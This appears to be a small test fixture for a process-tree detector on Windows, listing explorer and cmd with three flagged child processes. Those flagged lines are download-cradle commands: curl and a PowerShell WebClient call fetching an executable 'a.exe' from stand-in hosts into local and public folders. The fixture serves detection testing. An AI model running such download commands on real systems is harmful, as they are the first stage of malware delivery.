os windows
101 1 ana - C:\Windows\explorer.exe | C:\Windows\explorer.exe
102 101 ana - C:\Windows\System32\cmd.exe | C:\Windows\System32\cmd.exe
+ 103 102 ana - C:\Windows\System32\curl.exe | curl http://10.0.0.5/a -o a.exe
+ 104 102 ana - C:\Windows\System32\curl.exe | curl https://example.test/a.exe --output C:\Users\Public\a.exe
+ 105 102 ana - C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | powershell -c "(New-Object Net.WebClient).DownloadFile('http://10.0.0.5/a','a.exe')"
